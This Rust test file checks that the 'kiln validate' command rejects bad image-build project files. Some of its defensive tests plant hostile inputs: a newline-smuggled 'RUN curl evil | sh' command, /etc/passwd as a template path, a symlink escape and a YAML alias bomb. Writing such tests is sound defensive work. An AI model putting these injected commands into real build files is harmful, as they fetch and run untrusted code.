//! The bad-input suite: every kind of mistake a user can make in a project's
//! files makes `kiln validate` exit 1 with a message naming the file and line.

use std::path::Path;

use assert_cmd::Command;

const RECIPE: &str = "name: r
version: 1.0.0
parentImage: 127.0.0.1:5000/kiln/base:1
dockerfile: app.Dockerfile
components:
  - name: c
    parameters:
      Greeting: hi
buildArgs:
  MODE: release
test:
  port: 8080
  http:
    path: /
distribute:
  tags: [\"{{ version }}-{{ build }}\"]
  targets:
    - oci: {registry: 127.0.0.1:5000, repository: kiln/r}
schedule:
  cron: \"0 3 * * *\"
  timezone: UTC
";

const COMPONENT: &str = "name: c
schemaVersion: 1.0
parameters:
  - Greeting:
      type: string
      default: hello
phases:
  - name: build
    steps:
      - name: Say
        action: ExecuteBash
        inputs:
          commands:
            - echo {{ Greeting }}
      - name: Use
        action: ExecuteBash
        inputs:
          commands:
            - echo {{ build.Say.outputs.stdout }}
";

const TEMPLATE: &str = "FROM {{{ imagebuilder:parentImage }}}
{{{ imagebuilder:environments }}}
{{{ imagebuilder:components }}}
CMD [\"/bin/sh\"]
";

/// A valid project in a temp dir; `edit` changes it before validation.
fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for sub in ["recipes", "components", "dockerfiles", "config"] {
        std::fs::create_dir_all(dir.path().join(sub)).unwrap();
    }
    write(dir.path(), "recipes/r.yaml", RECIPE);
    write(dir.path(), "components/c.yaml", COMPONENT);
    write(dir.path(), "dockerfiles/app.Dockerfile", TEMPLATE);
    dir
}

fn write(root: &Path, rel: &str, text: &str) {
    std::fs::write(root.join(rel), text).unwrap();
}

fn validate(root: &Path) -> (i32, String, String) {
    let out = Command::cargo_bin("kiln")
        .unwrap()
        .args(["--project", root.to_str().unwrap(), "validate", "r"])
        .env_remove("KILN_REGISTRY")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Asserts exit 3 (validation failed) and that stderr has `file:line:` plus every `needle`.
#[track_caller]
fn assert_error(root: &Path, file_line: &str, needles: &[&str]) {
    let (code, stdout, stderr) = validate(root);
    let shown = format!("exit {code}\n--- stdout\n{stdout}--- stderr\n{stderr}");
    assert_eq!(code, 3, "expected exit 3\n{shown}");
    assert!(
        stderr.contains(file_line),
        "expected `{file_line}` in stderr\n{shown}"
    );
    for n in needles {
        assert!(stderr.contains(n), "expected `{n}` in stderr\n{shown}");
    }
}

fn recipe_with(from: &str, to: &str) -> tempfile::TempDir {
    assert!(RECIPE.contains(from), "fixture lacks {from:?}");
    let dir = project();
    write(dir.path(), "recipes/r.yaml", &RECIPE.replacen(from, to, 1));
    dir
}

fn component_with(from: &str, to: &str) -> tempfile::TempDir {
    assert!(COMPONENT.contains(from), "fixture lacks {from:?}");
    let dir = project();
    write(
        dir.path(),
        "components/c.yaml",
        &COMPONENT.replacen(from, to, 1),
    );
    dir
}

#[test]
fn the_fixture_itself_is_valid() {
    let dir = project();
    let (code, stdout, stderr) = validate(dir.path());
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stdout.contains("ok  r 1.0.0"), "{stdout}");
}

#[test]
fn malformed_yaml() {
    let dir = recipe_with("components:\n", "components: [\n");
    assert_error(dir.path(), "recipes/r.yaml:", &[]);
}

#[test]
fn unknown_recipe_field_with_hint() {
    let dir = recipe_with("parentImage:", "parentImag:");
    assert_error(
        dir.path(),
        "recipes/r.yaml:3:",
        &["unknown field `parentImag`", "did you mean `parentImage`?"],
    );
}

#[test]
fn wrong_type() {
    let dir = recipe_with("  port: 8080", "  port: eighty");
    assert_error(dir.path(), "recipes/r.yaml:12:", &[]);
}

#[test]
fn missing_required_field() {
    let dir = recipe_with("version: 1.0.0\n", "");
    assert_error(dir.path(), "recipes/r.yaml:", &["version"]);
}

#[test]
fn missing_component() {
    let dir = recipe_with("  - name: c\n", "  - name: cc\n");
    assert_error(
        dir.path(),
        "recipes/r.yaml:6:",
        &["component `cc` not found", "did you mean `c`?"],
    );
}

#[test]
fn missing_template() {
    let dir = recipe_with("dockerfile: app.Dockerfile", "dockerfile: nope.Dockerfile");
    assert_error(dir.path(), "recipes/r.yaml:4:", &["does not exist"]);
}

#[test]
fn unsupported_action() {
    let dir = component_with(
        "action: ExecuteBash\n        inputs:\n          commands:\n            - echo {{ Greeting }}",
        "action: Reboot",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:11:",
        &["unsupported action `Reboot`"],
    );
}

#[test]
fn unknown_action_with_hint() {
    let dir = component_with("action: ExecuteBash\n", "action: ExecuteBsh\n");
    assert_error(
        dir.path(),
        "components/c.yaml:11:",
        &[
            "unsupported action `ExecuteBsh`",
            "did you mean `ExecuteBash`?",
        ],
    );
}

#[test]
fn undefined_parameter() {
    let dir = component_with("echo {{ Greeting }}", "echo {{ Greting }}");
    assert_error(
        dir.path(),
        "components/c.yaml:14:",
        &["undefined parameter", "did you mean `{{ Greeting }}`?"],
    );
}

#[test]
fn bad_chaining_reference() {
    let dir = component_with(
        "{{ build.Say.outputs.stdout }}",
        "{{ build.Nope.outputs.stdout }}",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:19:",
        &["not an output or input of an earlier step"],
    );
}

#[test]
fn bad_semver() {
    let dir = recipe_with("version: 1.0.0", "version: 1.0");
    assert_error(dir.path(), "recipes/r.yaml:2:", &["invalid version"]);
}

#[test]
fn bad_cron() {
    let dir = recipe_with("cron: \"0 3 * * *\"", "cron: \"0 25 * * *\"");
    assert_error(dir.path(), "recipes/r.yaml:20:", &["invalid cron"]);
}

#[test]
fn six_bare_cron_fields_are_refused_as_ambiguous() {
    let dir = recipe_with("cron: \"0 3 * * *\"", "cron: \"30 2 * * 5 *\"");
    assert_error(
        dir.path(),
        "recipes/r.yaml:20:",
        &["six fields are ambiguous", "cron(30 2 ? * FRI *)"],
    );
}

#[test]
fn numeric_weekday_in_image_builder_cron() {
    let dir = recipe_with("cron: \"0 3 * * *\"", "cron: \"cron(0 10 ? * 1-5 *)\"");
    assert_error(
        dir.path(),
        "recipes/r.yaml:20:",
        &["weekday numbers", "MON-FRI"],
    );
}

#[test]
fn start_condition_and_its_alias_disagree() {
    let dir = recipe_with(
        "timezone: UTC\n",
        "timezone: UTC\n  startCondition: EXPRESSION_MATCH_ONLY\n  onlyWhenDependenciesChange: true\n",
    );
    assert_error(
        dir.path(),
        "recipes/r.yaml:23:",
        &["contradicts startCondition"],
    );
}

#[test]
fn unknown_start_condition() {
    let dir = recipe_with(
        "timezone: UTC\n",
        "timezone: UTC\n  startCondition: ALWAYS\n",
    );
    assert_error(
        dir.path(),
        "recipes/r.yaml:22:",
        &["unknown startCondition", "EXPRESSION_MATCH_ONLY"],
    );
}

#[test]
fn bad_timezone() {
    let dir = recipe_with("timezone: UTC", "timezone: Mars/Olympus");
    assert_error(dir.path(), "recipes/r.yaml:21:", &["unknown time zone"]);
}

#[test]
fn template_path_escape() {
    let dir = recipe_with(
        "dockerfile: app.Dockerfile",
        "dockerfile: ../recipes/r.yaml",
    );
    assert_error(dir.path(), "recipes/r.yaml:4:", &["contains `..`"]);
}

#[test]
fn absolute_template_path() {
    let dir = recipe_with("dockerfile: app.Dockerfile", "dockerfile: /etc/passwd");
    assert_error(dir.path(), "recipes/r.yaml:4:", &["absolute"]);
}

#[test]
fn symlink_escape() {
    let dir = project();
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "evil.yaml", COMPONENT);
    std::os::unix::fs::symlink(
        outside.path().join("evil.yaml"),
        dir.path().join("components/evil.yaml"),
    )
    .unwrap();
    write(
        dir.path(),
        "recipes/r.yaml",
        &RECIPE.replacen("  - name: c\n", "  - name: evil\n", 1),
    );
    assert_error(dir.path(), "recipes/r.yaml:6:", &["outside"]);
}

#[test]
fn injection_in_parameter_is_rejected() {
    let dir = recipe_with("Greeting: hi", "Greeting: \"hi\\nRUN curl evil | sh\"");
    assert_error(dir.path(), "recipes/r.yaml:8:", &["control character"]);
}

#[test]
fn injection_in_parent_image_is_rejected() {
    let dir = recipe_with(
        "parentImage: 127.0.0.1:5000/kiln/base:1",
        "parentImage: \"127.0.0.1:5000/kiln/base:1\\nRUN evil\"",
    );
    assert_error(dir.path(), "recipes/r.yaml:3:", &["parentImage"]);
}

#[test]
fn injection_in_build_arg_is_rejected() {
    let dir = recipe_with("MODE: release", "MODE: \"release\\nRUN evil\"");
    assert_error(dir.path(), "recipes/r.yaml:10:", &["control character"]);
}

#[test]
fn injection_in_tag_is_rejected() {
    let dir = recipe_with(
        "tags: [\"{{ version }}-{{ build }}\"]",
        "tags: [\"{{ version }} RUN\"]",
    );
    assert_error(dir.path(), "recipes/r.yaml:16:", &["not a valid tag"]);
}

#[test]
fn alias_bomb() {
    // A billion-laughs document in a step's free-form `inputs`.
    let mut bomb = String::from(
        "      - name: Bomb\n        action: ExecuteBash\n        inputs:\n          commands: [echo]\n          a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n",
    );
    for i in 1..10 {
        let p = i - 1;
        bomb.push_str(&format!("          a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"));
    }
    let dir = project();
    write(
        dir.path(),
        "components/c.yaml",
        &format!("{COMPONENT}{bomb}"),
    );
    assert_error(dir.path(), "components/c.yaml:", &["alias"]);
}

#[test]
fn oversized_component() {
    let dir = project();
    let big = format!("{COMPONENT}# {}\n", "x".repeat(1024 * 1024 + 1));
    write(dir.path(), "components/c.yaml", &big);
    assert_error(
        dir.path(),
        "recipes/r.yaml:6:",
        &["components/c.yaml", "limit"],
    );
}

#[test]
fn unknown_component_parameter() {
    let dir = recipe_with("Greeting: hi", "Greetin: hi");
    assert_error(
        dir.path(),
        "recipes/r.yaml:8:",
        &["no parameter `Greetin`", "did you mean `Greeting`?"],
    );
}

#[test]
fn missing_required_parameter() {
    let dir = project();
    write(
        dir.path(),
        "components/c.yaml",
        &COMPONENT.replace("      default: hello\n", ""),
    );
    write(
        dir.path(),
        "recipes/r.yaml",
        &RECIPE.replace("    parameters:\n      Greeting: hi\n", ""),
    );
    assert_error(
        dir.path(),
        "recipes/r.yaml:6:",
        &["needs parameter `Greeting`"],
    );
}

#[test]
fn unknown_phase() {
    let dir = component_with("- name: build", "- name: biuld");
    assert_error(
        dir.path(),
        "components/c.yaml:8:",
        &["unknown phase `biuld`", "did you mean `build`?"],
    );
}

#[test]
fn bad_on_failure() {
    let dir = component_with(
        "        action: ExecuteBash\n        inputs:\n          commands:\n            - echo {{ Greeting }}",
        "        action: ExecuteBash\n        onFailure: Retry\n        inputs:\n          commands:\n            - echo {{ Greeting }}",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:12:",
        &["invalid onFailure `Retry`"],
    );
}

#[test]
fn duplicate_step_names() {
    let dir = component_with("- name: Use", "- name: Say");
    assert_error(dir.path(), "components/c.yaml:15:", &["appears twice"]);
}

#[test]
fn unknown_step_field() {
    let dir = component_with(
        "        action: ExecuteBash\n",
        "        action: ExecuteBash\n        retries: 3\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:12:",
        &["unknown field `retries`"],
    );
}

#[test]
fn bad_schema_version() {
    let dir = component_with("schemaVersion: 1.0", "schemaVersion: 2.0");
    assert_error(dir.path(), "components/c.yaml:2:", &["schemaVersion"]);
}

#[test]
fn unknown_template_placeholder() {
    let dir = project();
    write(
        dir.path(),
        "dockerfiles/app.Dockerfile",
        &TEMPLATE.replace("environments", "environment"),
    );
    assert_error(
        dir.path(),
        "dockerfiles/app.Dockerfile:2:",
        &["unknown placeholder"],
    );
}

#[test]
fn template_without_components_slot() {
    let dir = project();
    write(
        dir.path(),
        "dockerfiles/app.Dockerfile",
        &TEMPLATE.replace("{{{ imagebuilder:components }}}\n", ""),
    );
    assert_error(
        dir.path(),
        "recipes/r.yaml:4:",
        &["imagebuilder:components"],
    );
}

#[test]
fn secret_looking_build_arg() {
    let dir = recipe_with("MODE: release", "DB_PASSWORD: hunter2");
    assert_error(dir.path(), "recipes/r.yaml:10:", &["looks like a secret"]);
}

#[test]
fn http_probe_needs_port() {
    let dir = recipe_with("  port: 8080\n", "");
    assert_error(dir.path(), "recipes/r.yaml:", &["needs `test.port`"]);
}

#[test]
fn duplicate_yaml_key() {
    let dir = recipe_with("version: 1.0.0\n", "version: 1.0.0\nversion: 1.0.1\n");
    assert_error(dir.path(), "recipes/r.yaml:3:", &[]);
}

#[test]
fn from_with_variable_cannot_be_pinned() {
    let dir = project();
    write(
        dir.path(),
        "dockerfiles/app.Dockerfile",
        &format!("FROM $BASE AS x\n{TEMPLATE}"),
    );
    assert_error(dir.path(), "dockerfiles/app.Dockerfile:1:", &["variable"]);
}

#[test]
fn unknown_recipe_name() {
    let dir = project();
    let out = Command::cargo_bin("kiln")
        .unwrap()
        .args(["--project", dir.path().to_str().unwrap(), "validate", "rr"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(
        stderr.contains("recipes/rr.yaml") && stderr.contains("did you mean `r`?"),
        "{stderr}"
    );
}

#[test]
fn all_errors_are_reported_not_just_the_first() {
    let dir = project();
    let text = RECIPE
        .replacen("version: 1.0.0", "version: one", 1)
        .replacen("timezone: UTC", "timezone: Nowhere/Land", 1);
    write(dir.path(), "recipes/r.yaml", &text);
    write(
        dir.path(),
        "components/c.yaml",
        &COMPONENT.replace("ExecuteBash", "Reboot"),
    );
    let (code, _, stderr) = validate(dir.path());
    assert_eq!(code, 3);
    for n in [
        "recipes/r.yaml:2:",
        "recipes/r.yaml:21:",
        "components/c.yaml:11:",
        "components/c.yaml:16:",
    ] {
        assert!(stderr.contains(n), "missing {n} in\n{stderr}");
    }
}

#[test]
fn usage_error_exits_2() {
    let out = Command::cargo_bin("kiln")
        .unwrap()
        .args(["validate", "--bogus"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn escape_directive_is_refused() {
    let dir = project();
    write(
        dir.path(),
        "dockerfiles/app.Dockerfile",
        &format!("# escape=`\n{TEMPLATE}"),
    );
    assert_error(dir.path(), "dockerfiles/app.Dockerfile:1:", &["escape"]);
}

/// These spun at 100 % CPU forever (#13): an illegal character inside a
/// repository component. Each is an error naming the file, line and rule.
#[test]
fn illegal_character_in_repository_is_an_error_not_a_hang() {
    for repo in ["myApp", "xxINT-f0", "a+b", "caf\u{e9}"] {
        let dir = recipe_with(
            "parentImage: 127.0.0.1:5000/kiln/base:1",
            &format!("parentImage: 127.0.0.1:5000/kiln/{repo}:1"),
        );
        let out = Command::cargo_bin("kiln")
            .unwrap()
            .args(["--project", dir.path().to_str().unwrap(), "validate", "r"])
            .timeout(std::time::Duration::from_secs(30))
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{repo}: {stderr}");
        for needle in [
            "recipes/r.yaml:3:",
            "invalid repository",
            "lowercase letters, digits and separators",
        ] {
            assert!(
                stderr.contains(needle),
                "{repo}: no `{needle}` in\n{stderr}"
            );
        }
    }
    let dir = recipe_with("repository: kiln/r}", "repository: kiln/myApp}");
    assert_error(dir.path(), "recipes/r.yaml:18:", &["invalid repository"]);
    let dir = project();
    write(
        dir.path(),
        "dockerfiles/app.Dockerfile",
        &format!("FROM 127.0.0.1:5000/Kiln/tools:1 AS tools\n{TEMPLATE}"),
    );
    assert_error(
        dir.path(),
        "dockerfiles/app.Dockerfile:1:",
        &["invalid repository"],
    );
}

// --- AWSTOE documents: every refused action or input names file, line and field.

/// The fixture with the `Say` step (lines 10-14) replaced by `step`, whose
/// first line becomes line 10; `Use` chains from another step, so it is dropped.
fn step_in(step: &str) -> tempfile::TempDir {
    let start = COMPONENT.find("      - name: Say").unwrap();
    let text = format!("{}{step}", &COMPONENT[..start]);
    let dir = project();
    write(dir.path(), "components/c.yaml", &text);
    dir
}

#[test]
fn a_bucket_owner_on_a_project_document_is_refused_not_ignored() {
    let dir = step_in(
        "      - name: Nested\n        action: ExecuteDocument\n        inputs:\n          document: c.yaml\n          document-s3-bucket-owner: '123456789012'\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:",
        &["document-s3-bucket-owner", "applies to a document in S3"],
    );
}

#[test]
fn reboot_is_refused_with_the_reason() {
    let dir = step_in(
        "      - name: Restart\n        action: Reboot\n        inputs:\n          delaySeconds: 60\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:11:",
        &[
            "unsupported action `Reboot`",
            "a container build cannot reboot",
        ],
    );
}

#[test]
fn secret_looking_build_arg_names_are_refused() {
    for name in ["DB_PASS", "ADMIN_PWD", "AWS_CREDENTIALS", "GITHUB_TOKEN"] {
        let dir = recipe_with("MODE: release", &format!("{name}: hunter22"));
        assert_error(
            dir.path(),
            "recipes/r.yaml:10:",
            &[name, "looks like a secret"],
        );
    }
}

#[test]
fn windows_only_actions_are_refused_as_windows_only() {
    let dir = step_in(
        "      - name: Ps\n        action: ExecutePowerShell\n        inputs:\n          commands: [Write-Host hi]\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:11:",
        &["unsupported action `ExecutePowerShell`", "Windows-only"],
    );
}

#[test]
fn old_symlink_field_names_are_named() {
    let dir = step_in(
        "      - name: Link\n        action: CreateSymlink\n        inputs:\n          - source: /a\n            destination: /b\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:14:",
        &["unknown field `destination`", "`path`, `target`, `force`"],
    );
}

#[test]
fn unsupported_encoding_is_refused_not_ignored() {
    let dir = step_in(
        "      - name: Write\n        action: CreateFile\n        inputs:\n          - path: /a\n            content: x\n            encoding: ascii\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:15:",
        &["`encoding: ascii` is not supported", "utf-16-LE"],
    );
}

#[test]
fn permissions_must_be_octal() {
    let dir = step_in(
        "      - name: Mode\n        action: SetFilePermissions\n        inputs:\n          - path: /a\n            permissions: 999\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:14:",
        &["`permissions: 999` is not an octal mode"],
    );
}

#[test]
fn checksum_without_algorithm_is_refused() {
    let dir = step_in(
        "      - name: Get\n        action: WebDownload\n        inputs:\n          - source: https://example.com/a\n            destination: /a\n            checksum: abc123\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:15:",
        &["`checksum` needs `algorithm`"],
    );
}

#[test]
fn loop_delimiter_is_one_character() {
    let dir = step_in(
        "      - name: Each\n        action: ExecuteBash\n        loop:\n          forEach:\n            list: a::b\n            delimiter: '::'\n        inputs:\n          commands: [echo]\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["`delimiter` must be one character"],
    );
}

#[test]
fn if_nested_deeper_than_four_levels_is_refused() {
    let dir = step_in(
        "      - name: Deep\n        action: ExecuteBash\n        if:\n          not:\n            not:\n              not:\n                not:\n                  not:\n                    fileExists: /a\n        inputs:\n          commands: [echo]\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["invalid `if`", "more than 4 levels"],
    );
}

#[test]
fn if_with_unknown_operator_has_a_hint() {
    let dir = step_in(
        "      - name: Cond\n        action: ExecuteBash\n        if:\n          stringEqual: a\n          value: b\n        inputs:\n          commands: [echo]\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["unknown operator `stringEqual`", "stringEquals"],
    );
}

#[test]
fn assert_needs_a_value_for_binary_operators() {
    let dir = step_in(
        "      - name: Check\n        action: Assert\n        inputs:\n          numberEquals: 1\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["`numberEquals` needs a `value`"],
    );
}

#[test]
fn execute_document_from_s3_is_refused() {
    let dir = step_in(
        "      - name: Nested\n        action: ExecuteDocument\n        inputs:\n          document: s3://bucket/doc.yaml\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["not from S3 or Image Builder ARNs"],
    );
}

#[test]
fn execute_document_missing_file_and_unknown_parameter() {
    let dir = step_in(
        "      - name: Nested\n        action: ExecuteDocument\n        inputs:\n          document: nope.yaml\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["`document: nope.yaml`", "does not exist"],
    );
    let dir = step_in(
        "      - name: Nested\n        action: ExecuteDocument\n        inputs:\n          document: child.yaml\n          parameters:\n            - name: Colour\n              value: red\n",
    );
    write(
        dir.path(),
        "components/child.yaml",
        "schemaVersion: 1.0\nphases:\n  - name: build\n    steps:\n      - name: S\n        action: ExecuteBash\n        inputs:\n          commands: [echo]\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["parameter `Colour` is not declared by `child.yaml`"],
    );
}

#[test]
fn execute_document_cycle_is_refused() {
    let dir = step_in(
        "      - name: Nested\n        action: ExecuteDocument\n        inputs:\n          document: c.yaml\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["runs itself", "components/c.yaml → components/c.yaml"],
    );
}

#[test]
fn errors_in_a_nested_document_are_positioned_in_it() {
    let dir = step_in(
        "      - name: Nested\n        action: ExecuteDocument\n        inputs:\n          document: child.yaml\n",
    );
    write(
        dir.path(),
        "components/child.yaml",
        "schemaVersion: 1.0\nphases:\n  - name: build\n    steps:\n      - name: S\n        action: Reboot\n",
    );
    assert_error(
        dir.path(),
        "components/child.yaml:6:",
        &[
            "unsupported action `Reboot`",
            "nested document `child.yaml` has errors",
        ],
    );
}

#[test]
fn s3_download_source_must_be_an_s3_url() {
    let dir = step_in(
        "      - name: Get\n        action: S3Download\n        inputs:\n          - source: https://example.com/a\n            destination: /a\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:13:",
        &["`source: https://example.com/a` is not `s3://bucket/key`"],
    );
}

#[test]
fn s3_download_source_cannot_use_run_time_values() {
    let dir = step_in(
        "      - name: Get\n        action: S3Download\n        loop:\n          forEach: [a, b]\n        inputs:\n          - source: 's3://bucket/{{ loop.value }}'\n            destination: /a\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:11:",
        &["(S3Download): S3Download cannot loop"],
    );
}

#[test]
fn s3_upload_outside_the_test_phase_is_refused() {
    let dir = step_in(
        "      - name: Put\n        action: S3Upload\n        inputs:\n          - source: /a\n            destination: s3://bucket/a\n",
    );
    assert_error(
        dir.path(),
        "components/c.yaml:11:",
        &["step `Put` (S3Upload): S3Upload runs in the test phase"],
    );
}

#[test]
fn approval_is_required_or_none_and_promote_needs_it() {
    let dir = recipe_with("distribute:\n", "distribute:\n  approval: maybe\n");
    assert_error(
        dir.path(),
        "recipes/r.yaml:16:",
        &["`required` or `none`", "maybe"],
    );
    let dir = recipe_with(
        "distribute:\n",
        "distribute:\n  promote:\n    - oci: {registry: 127.0.0.1:5000, repository: prod/r}\n",
    );
    assert_error(dir.path(), "recipes/r.yaml:17:", &["approval: required"]);
    let dir = recipe_with(
        "distribute:\n",
        "distribute:\n  approval: required\n  promote:\n    - ecr: {region: nowhere, repository: r}\n",
    );
    assert_error(dir.path(), "recipes/r.yaml:18:", &["invalid AWS region"]);
}

/// A value of the wrong shape names the field and what it accepts, never a
/// Rust type (serde's "did not match any variant of untagged enum …").
#[test]
fn a_wrong_shape_names_the_field_and_what_it_accepts() {
    let cases = [
        (
            "      - name: Each\n        action: ExecuteBash\n        loop:\n          forEach: 3\n        inputs:\n          commands: [echo]\n",
            ["forEach", "a list of values, or a map {list, delimiter}"],
        ),
        (
            "      - name: Make\n        action: CreateFile\n        inputs:\n          - path: /tmp/x\n            content: hi\n            overwrite: maybe\n",
            ["overwrite", "true or false"],
        ),
        (
            "      - name: Make\n        action: CreateFile\n        inputs:\n          - path: /tmp/x\n            content: [1, 2]\n",
            ["`content` of input 1", "expected a string"],
        ),
    ];
    for (step, needles) in cases {
        let dir = step_in(step);
        let (code, _, stderr) = validate(dir.path());
        assert_eq!(code, 3, "{stderr}");
        assert!(stderr.contains("components/c.yaml:1"), "{stderr}");
        for n in needles {
            assert!(stderr.contains(n), "expected `{n}` in\n{stderr}");
        }
        for leak in ["untagged", "ScalarValue", "CommandSpec", "variant"] {
            assert!(!stderr.contains(leak), "`{leak}` leaked into\n{stderr}");
        }
    }
    // A recipe's component parameter given as a list.
    let dir = recipe_with("      Greeting: hi\n", "      Greeting: [hi, there]\n");
    assert_error(
        dir.path(),
        "recipes/r.yaml:8:",
        &[
            "`Greeting`: invalid type: sequence, expected a single value (text, number or true/false)",
        ],
    );
    let (_, _, stderr) = validate(dir.path());
    assert!(!stderr.contains("untagged"), "{stderr}");
}

#[test]
fn unknown_target_compression() {
    let dir = recipe_with(
        "repository: kiln/r}",
        "repository: kiln/r, compression: lz4}",
    );
    assert_error(dir.path(), "recipes/r.yaml:18:", &["lz4", "gzip", "zstd"]);
}

#[test]
fn targets_with_different_compressions() {
    let dir = recipe_with(
        "    - oci: {registry: 127.0.0.1:5000, repository: kiln/r}\n",
        "    - oci: {registry: 127.0.0.1:5000, repository: kiln/r, compression: zstd}\n    - oci: {registry: 127.0.0.1:5000, repository: kiln/s}\n",
    );
    assert_error(
        dir.path(),
        "recipes/r.yaml:19:",
        &["compression `gzip` differs from the first target's `zstd`"],
    );
}

#[test]
fn zstd_targets_are_valid() {
    let dir = recipe_with(
        "repository: kiln/r}",
        "repository: kiln/r, compression: zstd}",
    );
    let (code, stdout, stderr) = validate(dir.path());
    assert_eq!(code, 0, "{stdout}{stderr}");
}
